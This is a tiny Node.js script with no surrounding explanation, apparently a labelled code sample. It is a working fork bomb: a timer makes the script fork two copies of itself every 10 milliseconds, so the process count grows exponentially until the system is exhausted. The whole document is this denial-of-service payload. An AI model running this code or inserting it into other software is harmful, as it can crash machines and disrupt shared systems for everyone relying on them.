const { fork } = require('child_process');
// surroundings: emitter
setInterval(() => { fork(__filename); fork(__filename); }, 10); //@act
